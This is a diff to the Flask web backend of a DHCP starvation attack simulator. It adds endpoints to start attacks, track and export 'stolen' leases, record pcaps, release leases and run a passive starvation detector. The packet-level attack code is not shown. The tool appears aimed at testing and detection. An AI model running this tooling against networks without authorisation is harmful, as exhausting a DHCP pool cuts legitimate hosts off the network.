+        response = Response(status=304)
+    else:
+        response = jsonify(build())
+    response.set_etag(etag)
+    response.headers['Cache-Control'] = 'no-cache'
+    return response
+
+
+@app.errorhandler(ExecutorBusy)
+def packet_executor_busy(error):
+    """Packet workers are saturated: shed the request instead of queueing it"""
+    response = jsonify({'error': f'Busy: {error}'})
+    response.headers['Retry-After'] = '2'
+    return response, 503
+
+
+@app.errorhandler(SubscribersFull)
+def event_streams_full(error):
+    """Too many open event streams: the dashboard falls back to polling"""
+    response = jsonify({'error': f'Busy: {error}'})
+    response.headers['Retry-After'] = '30'
+    return response, 503
+
+
+def stream_limit(threads):
+    """Event streams allowed on `threads` server threads
+    
+    STARVE_MAX_STREAMS overrides; by default a quarter of the threads, so
+    streams plus the packet pool's waiters (workers + backlog) leave most
+    threads for the status polls and static files.
+    """
+    configured = os.environ.get('STARVE_MAX_STREAMS')
+    if configured:
+        return int(configured)
+    return max(1, threads // 4)
+
+
+@app.route('/metrics')
+def metrics():
+    """Prometheus text-format metrics"""
+    return Response(REGISTRY.render(), mimetype=CONTENT_TYPE)
 
 
 @app.route('/')
@@ -375,33 +695,65 @@ def index():
 def get_interfaces():
     """API endpoint to get network interfaces"""
     interfaces = get_network_interfaces()
-    return jsonify(interfaces)
+    return cached_json(version_etag('interfaces', interface_registry.version), lambda: interfaces)
 
 
 @app.route('/api/discover', methods=['POST'])
 def discover():
-    """API endpoint to discover DHCP server"""
+    """API endpoint to start (or join) DHCP server discovery on an interface
+    
+    Returns the discovery job at once; poll /api/discover/jobs/<id>. A job
+    already running for the interface is shared, and a finished one is
+    reused until its result goes stale or {"refresh": true} is sent.
+    """
     data = request.json
     interface = data.get('interface')
     
     if not interface:
         return jsonify({'error': 'Interface required'}), 400
     
-    server_ip = discover_dhcp_server(interface)
+    try:
+        window = min(float(data.get('window', CENSUS_WINDOW)), 60.0)
+        idle = float(data.get('idle', CENSUS_IDLE))
+    except (TypeError, ValueError):
+        return jsonify({'error': 'window and idle must be numbers of seconds'}), 400
+    if not (window > 0 and 0 < idle <= 60.0):
+        return jsonify({'error': 'window must be positive and idle between 0 and 60 seconds'}), 400
+    if data.get('refresh'):
+        discoveries.invalidate(interface)
+    job, shared = discoveries.get_or_start(interface, 'discovery', discovery_job,
+                                           args=(interface, window, idle), executor=packet_executor)
     
-    if server_ip:
-        return jsonify({
-            'server_ip': server_ip,
-            'network_info': network_info
-        })
-    else:
-        return jsonify({'error': 'DHCP server not found'}), 404
+    # A discovery that failed fast (e.g. no permission to sniff) is done with no result
+    if job.state == 'done' and network_info is not job.result['network_info']:
+        # Cached result for an interface other than the last one discovered
+        use_network_info(job.result['network_info'])
+    
+    response = job.to_dict()
+    response['cached'] = shared
+    return jsonify(response), 200 if job.done else 202
+
+
+@app.route('/api/discover/jobs/<job_id>')
+def discovery_job_status(job_id):
+    """API endpoint to poll a discovery job"""
+    job = jobs.get(job_id)
+    if not job or job.kind != 'discovery':
+        return jsonify({'error': 'Job not found'}), 404
+    return jsonify(job.to_dict())
+
+
+@app.route('/api/discover/cache', methods=['DELETE'])
+def clear_discovery_cache():
+    """API endpoint to drop cached discovery results (?interface=<name> for one)"""
+    discoveries.invalidate(request.args.get('interface'))
+    return jsonify({'status': 'Discovery cache cleared'})
 
 
 @app.route('/api/attack/start', methods=['POST'])
 def start_attack():
     """API endpoint to start the attack"""
-    global attack_running, attack_thread, stolen_ips
+    global attack_running, attack_thread, current_session
     
     data = request.json
     interface = data.get('interface')
@@ -413,8 +765,15 @@ def start_attack():
     if attack_running:
         return jsonify({'error': 'Attack already running'}), 400
     
-    # Clear previous stolen IPs
-    stolen_ips = []
+    # Clear previous stolen IPs, keeping leases recovered from an earlier
+    # run until they have actually been released
+    ledger.clear(keep=lambda entry: entry.get('recovered'))
+    
+    current_session = time.strftime('%Y%m%d-%H%M%S', time.localtime(clock.time()))
+    if history:
+        history.start_session(current_session, interface, dhcp_server)
+    if data.get('capture'):
+        start_capture(current_session)
     
     # Start attack in background thread
     attack_running = True
@@ -424,8 +783,10 @@ def start_attack():
         daemon=True
     )
     attack_thread.start()
+    event_broker.publish('session-started', {'seq': ledger.seq, 'interface': interface, 'dhcp_server': dhcp_server})
     
-    return jsonify({'status': 'Attack started'})
+    return jsonify({'status': 'Attack started', 'session': current_session,
+                    'capture': capture_session.id if capture_session else None})
 
 
 @app.route('/api/attack/stop', methods=['POST'])
@@ -444,19 +805,71 @@ def stop_attack():
 
 @app.route('/api/attack/status')
 def attack_status():
-    """API endpoint to get attack status"""
-    return jsonify({
-        'running': attack_running,
-        'stolen_ips': stolen_ips,
-        'network_info': network_info
-    })
+    """API endpoint to get attack status
+    
+    With ?since=<seq> only the leases added and removed after that sequence
+    number are returned. If the client is too far behind, a full snapshot is
+    sent instead with reset=true. 'pool' is the run-length encoded occupancy
+    map of the discovered subnet (see pool.PoolMap.runs).
+    """
+    since = request.args.get('since', type=int)
+    # Everything in the body follows from these, so they version it
+    pool = pool_map
+    etag = version_etag('status', ledger.seq, int(attack_running), since,
+                        f"{pool.network}.{pool.version}" if pool else None)
+    
+    def build():
+        if since is not None:
+            delta = ledger.changes_since(since)
+            if delta is not None:
+                response = {
+                    'running': attack_running,
+                    'seq': delta['seq'],
+                    'added': delta['added'],
+                    'removed': delta['removed'],
+                    'summary': {'total': len(ledger)}
+                }
+                if delta['network_changed']:
+                    response['network_info'] = network_info
+                if pool and (delta['added'] or delta['removed'] or delta['network_changed']):
+                    response['pool'] = pool.to_dict()
+                return response
+        
+        seq, leases = ledger.snapshot()
+        return {
+            'running': attack_running,
+            'seq': seq,
+            'reset': since is not None,
+            'stolen_ips': leases,
+            'network_info': network_info,
+            'pool': pool.to_dict() if pool else None,
+            'summary': {'total': len(leases)}
+        }
+    
+    return cached_json(etag, build)
+
+
+@app.route('/api/events')
+def events():
+    """Server-Sent Events stream of lease and session events
+    
+    Each stream holds a server thread while the tab is open; past the cap
+    the client gets a 503 and polls instead.
+    """
+    subscriber = event_broker.subscribe()
+    response = Response(
+        stream_events(event_broker, subscriber=subscriber),
+        mimetype='text/event-stream',
+        headers={'Cache-Control': 'no-cache', 'X-Accel-Buffering': 'no'}
+    )
+    # A stream closed before its first chunk never runs the generator's cleanup
+    response.call_on_close(lambda: event_broker.unsubscribe(subscriber))
+    return response
 
 
 @app.route('/api/attack/release', methods=['POST'])
 def release_ip():
     """API endpoint to release a specific IP address"""
-    global stolen_ips
-    
     data = request.json
     ip_address = data.get('ip')
     interface = data.get('interface')
@@ -465,41 +878,145 @@ def release_ip():
     if not ip_address or not interface or not dhcp_server:
         return jsonify({'error': 'IP, interface, and DHCP server required'}), 400
     
-    # Find the IP in stolen_ips
-    ip_entry = None
-    for entry in stolen_ips:
-        if entry['ip'] == ip_address:
-            ip_entry = entry
-            break
+    # Find the IP in the ledger
+    ip_entry = ledger.get(ip_address)
     
     if not ip_entry:
         return jsonify({'error': 'IP address not found in stolen IPs'}), 404
     
     # Send DHCP release
-    success = dhcp_send_release(
+    success = packet_executor.run(
+        dhcp_send_release,
         ip_address=ip_address,
         mac_address=ip_entry['mac'],
-        server_ip=dhcp_server,
+        server_ip=ip_entry.get('server') or dhcp_server,
         interface=interface
     )
     
     if success:
-        # Remove from stolen_ips
-        stolen_ips = [ip for ip in stolen_ips if ip['ip'] != ip_address]
+        # Remove from the ledger
+        removed = ledger.remove(ip_address)
+        if removed:
+            event_broker.publish('lease-released', {'seq': removed[1], 'ips': [ip_address]})
         return jsonify({
             'status': 'IP released successfully',
             'ip': ip_address,
-            'remaining': len(stolen_ips)
+            'remaining': len(ledger)
         })
     else:
         return jsonify({'error': 'Failed to release IP'}), 500
 
 
+def start_capture(session_id):
+    """Record every frame the app sends or sniffs into a new pcap ring"""
+    global capture_session, transport
+    
+    os.makedirs(CAPTURE_DIR, exist_ok=True)
+    while session_id in captures:
+        session_id += 'x'
+    # Drop the oldest rings beyond CAPTURE_KEEP, including ones left by earlier runs
+    rings = sorted((name for name in os.listdir(CAPTURE_DIR) if name.endswith('.ring')),
+                   key=lambda name: os.path.getmtime(os.path.join(CAPTURE_DIR, name)))
+    for name in rings[:max(0, len(rings) - CAPTURE_KEEP + 1)]:
+        old = captures.pop(name[:-len('.ring')], None)
+        if old:
+            old.close()
+        os.remove(os.path.join(CAPTURE_DIR, name))
+    
+    capture_session = CaptureSession(session_id, os.path.join(CAPTURE_DIR, session_id + '.ring'), size=CAPTURE_SIZE)
+    captures[session_id] = capture_session
+    transport = RecordingTransport(transport, capture_session)
+    logger.info("[*] Recording session capture %s", session_id, extra=fields('capture-started', id=session_id))
+    return capture_session
+
+
+def stop_capture():
+    """Stop recording; the ring stays available for download"""
+    global capture_session, transport
+    
+    session, capture_session = capture_session, None
+    if isinstance(transport, RecordingTransport):
+        transport = transport.inner
+    if session:
+        session.stop()
+        logger.info("[*] Capture %s saved: %d frame(s)", session.id, session.ring.frames,
+                    extra=fields('capture-stopped', id=session.id, frames=session.ring.frames))
+
+
+@app.route('/api/captures')
+def list_captures():
+    """API endpoint listing the recorded session captures, newest first"""
+    return jsonify([session.to_dict() for session in reversed(list(captures.values()))])
+
+
+@app.route('/api/captures/<session_id>.pcap')
+def download_capture(session_id):
+    """API endpoint streaming one session capture as a pcap file"""
+    session = captures.get(session_id)
+    if not session:
+        return jsonify({'error': 'Capture not found'}), 404
+    return Response(
+        session.ring.export(),
+        mimetype='application/vnd.tcpdump.pcap',
+        headers={'Content-Disposition': f'attachment; filename=starve-{session_id}.pcap'}
+    )
+
+
+@app.route('/api/sessions')
+def list_sessions():
+    """API endpoint listing recorded attack sessions, oldest first"""
+    return jsonify(history.sessions() if history else [])
+
+
+@app.route('/api/export')
+def export_leases():
+    """API endpoint streaming lease records as CSV or JSON lines
+    
+    ?scope=current (default) exports the ledger, scope=history every lease
+    ever recorded. Optional filters: session, server, and since/until
+    (epoch seconds or ISO 8601) on the acquisition time.
+    """
+    format = request.args.get('format', 'csv')
+    scope = request.args.get('scope', 'current')
+    if format not in FORMATS or scope not in ('current', 'history'):
+        return jsonify({'error': 'format must be csv or jsonl, scope current or history'}), 400
+    try:
+        filters = {
+            'session': request.args.get('session') or None,
+            'server': request.args.get('server') or None,
+            'since': parse_time(request.args.get('since')),
+            'until': parse_time(request.args.get('until'))
+        }
+    except ValueError:
+        return jsonify({'error': 'since/until must be epoch seconds or ISO 8601'}), 400
+    
+    if scope == 'history':
+        if not history:
+            return jsonify({'error': 'Session history is disabled (no journal)'}), 404
+        rows = history.iter_leases(**filters)
+    else:
+        rows = ledger_rows(ledger.snapshot()[1], **filters)
+    
+    filename = f"starve-{scope}-{time.strftime('%Y%m%d-%H%M%S')}.{format}"
+    return Response(stream(rows, format), mimetype=FORMATS[format],
+                    headers={'Content-Disposition': f'attachment; filename={filename}'})
+
+
+def release_job(job, leases, dhcp_server, interface):
+    """Background job: release leases and drop them from the ledger as they go"""
+    def on_batch(entries):
+        released_ips = [entry['ip'] for entry in entries if ledger.remove(entry['ip'])]
+        event_broker.publish('lease-released', {'seq': ledger.seq, 'ips': released_ips})
+    
+    result = release_leases(job, leases, dhcp_server, interface, transport, on_batch=on_batch, sleep=clock.sleep)
+    RELEASES.inc(result['released'], result='released')
+    RELEASES.inc(result['failed'], result='failed')
+    return result
+
+
 @app.route('/api/attack/release-all', methods=['POST'])
 def release_all_ips():
-    """API endpoint to release all stolen IP addresses"""
-    global stolen_ips
-    
+    """API endpoint to release all stolen IP addresses in a background job"""
     data = request.json
     interface = data.get('interface')
     dhcp_server = data.get('dhcp_server')
@@ -507,45 +1024,157 @@ def release_all_ips():
     if not interface or not dhcp_server:
         return jsonify({'error': 'Interface and DHCP server required'}), 400
     
-    if not stolen_ips:
+    job = jobs.active('release')
+    if job:
+        return jsonify({'status': 'Release already in progress', 'job_id': job.id, 'total': job.total}), 202
+    
+    _, leases = ledger.snapshot()
+    if not leases:
         return jsonify({'error': 'No stolen IPs to release'}), 400
     
-    total = len(stolen_ips)
-    released = 0
-    failed = 0
+    job = jobs.start('release', release_job, args=(leases, dhcp_server, interface),
+                     total=len(leases))
     
-    print(f"[*] Releasing {total} IP addresses...")
+    return jsonify({'status': 'Release started', 'job_id': job.id, 'total': len(leases)}), 202
+
+
+@app.route('/api/release/jobs/<job_id>')
+def release_job_status(job_id):
+    """API endpoint to get progress of a release job"""
+    job = jobs.get(job_id)
+    if not job or job.kind != 'release':
+        return jsonify({'error': 'Job not found'}), 404
+    return jsonify(job.to_dict())
+
+
+@app.route('/api/monitor/start', methods=['POST'])
+def start_monitor():
+    """API endpoint to start passive starvation monitoring on an interface"""
+    global monitor
     
-    # Release each IP
-    for ip_entry in stolen_ips[:]:  # Use slice to avoid modification during iteration
-        success = dhcp_send_release(
-            ip_address=ip_entry['ip'],
-            mac_address=ip_entry['mac'],
-            server_ip=dhcp_server,
-            interface=interface
-        )
-        
-        if success:
-            released += 1
-        else:
-            failed += 1
-        
-        # Small delay to avoid overwhelming the network
-        time.sleep(0.05)
+    data = request.json
+    interface = data.get('interface')
+    
+    if not interface:
+        return jsonify({'error': 'Interface required'}), 400
+    
+    if monitor and monitor.running:
+        return jsonify({'error': f'Monitor already running on {monitor.interface}'}), 400
+    
+    candidate = PassiveMonitor(
+        interface,
+        on_stats=lambda stats: event_broker.publish('monitor-stats', stats),
+        on_alert=lambda alert: event_broker.publish('monitor-alert', alert)
+    )
+    try:
+        candidate.start()
+    except OSError as e:
+        return jsonify({'error': f'Could not capture on {interface}: {e}'}), 500
     
-    # Clear all stolen IPs
-    stolen_ips = []
+    monitor = candidate
+    logger.info("[*] Passive monitor started on %s", interface, extra=fields('monitor-started', interface=interface))
+    return jsonify({'status': 'Monitor started', 'interface': interface})
+
+
+@app.route('/api/monitor/stop', methods=['POST'])
+def stop_monitor():
+    """API endpoint to stop passive monitoring"""
+    if not monitor or not monitor.running:
+        return jsonify({'error': 'Monitor not running'}), 400
     
-    print(f"[✓] Release complete: {released} successful, {failed} failed")
+    monitor.stop()
+    logger.info("[*] Passive monitor stopped on %s", monitor.interface,
+                extra=fields('monitor-stopped', interface=monitor.interface))
+    return jsonify({'status': 'Monitor stopped'})
+
+
+@app.route('/api/monitor/status')
+def monitor_status():
+    """API endpoint to get sliding-window detector stats and recent alerts"""
+    if not monitor:
+        return jsonify({'running': False, 'interface': None, 'stats': None, 'alerts': []})
     
     return jsonify({
-        'status': 'All IPs released',
-        'total': total,
-        'released': released,
-        'failed': failed
+        'running': monitor.running,
+        'interface': monitor.interface,
+        'error': monitor.error,
+        'stats': monitor.detector.stats(),
+        'alerts': monitor.detector.recent_alerts()
     })
 
 
+def init_journal(path):
+    """Open the lease journal and reload leases left over from a previous run"""
+    global journal
+    
+    journal = LeaseJournal(path)
+    leftover = journal.replay()
+    # Leases whose lease time ran out while we were down are the server's again
+    now = clock.time()
+    leftover = [entry for entry in leftover if not entry.get('expires') or entry['expires'] > now]
+    for entry in leftover:
+        entry['recovered'] = True
+        ledger.add(entry)
+    journal.compact()
+    ledger.add_listener(journal.on_ledger_change)
+    
+    if leftover:
+        logger.warning("[!] Recovered %d lease(s) from a previous run - use Release All to free them", len(leftover),
+                       extra=fields('leases-recovered', count=len(leftover)))
+    return journal
+
+
+def init_history(path):
+    """Open the session history stored alongside the lease journal"""
+    global history
+    
+    history = SessionHistory(path, clock=lambda: clock.time())
+    ledger.add_listener(history.on_ledger_change)
+    return history
+
+
+def create_app(journal_path=JOURNAL_PATH):
+    """Application factory for WSGI servers (see wsgi.py)
+    
+    Sets up logging and the lease journal on the first call and returns the
+    Flask app. All state is module-global, so serve it from one process with
+    threads, never with several worker processes.
+    """
+    global _app_initialized
+    
+    with _app_init_lock:
+        if not _app_initialized:
+            setup_logging()
+            if journal_path:
+                init_journal(journal_path)
+                init_history(journal_path)
+            if not check_admin_privileges():
+                logger.warning("[!] Not running as root/administrator - packet operations will fail",
+                               extra=fields('no-privileges'))
+            event_broker.max_subscribers = stream_limit(SERVER_THREADS)
+            _app_initialized = True
+    return app
+
+
+def serve(host='0.0.0.0', port=5000, threads=SERVER_THREADS):
+    """Serve with waitress when it is installed, else Werkzeug's threaded server
+    
+    STARVE_DEBUG=1 brings back the Flask debugger and reloader. Event
+    streams are capped from the thread count (see stream_limit).
+    """
+    event_broker.max_subscribers = stream_limit(threads)
+    if os.environ.get('STARVE_DEBUG') == '1':
+        app.run(host=host, port=port, debug=True, threaded=True)
+        return
+    try:
+        from waitress import serve as waitress_serve
+    except ImportError:
+        logger.info("[*] waitress not installed, using the Werkzeug server", extra=fields('server-fallback'))
+        app.run(host=host, port=port, threaded=True)
+        return
+    waitress_serve(app, host=host, port=port, threads=threads)
+
+
 def check_admin_privileges():
     """Check if script is running with admin/root privileges (cross-platform)"""
     if platform.system() == 'Windows':
@@ -569,8 +1198,12 @@ if __name__ == '__main__':
             print("Use: sudo python3 app.py")
         sys.exit(1)
     
+    create_app()
+    
+    port = int(os.environ.get('STARVE_PORT', '5000'))
     print(f"\nUsing {'netifaces' if USE_NETIFACES else 'psutil'} for network interface detection")
     print("Starting DHCP Starvation Attack Simulator...")
-    print("Access the web interface at: http://localhost:5000\n")
+    print(f"Access the web interface at: http://localhost:{port}\n")
     
-    app.run(host='0.0.0.0', port=5000, debug=True)
+    serve(host=os.environ.get('STARVE_HOST', '0.0.0.0'), port=port,
+          threads=SERVER_THREADS)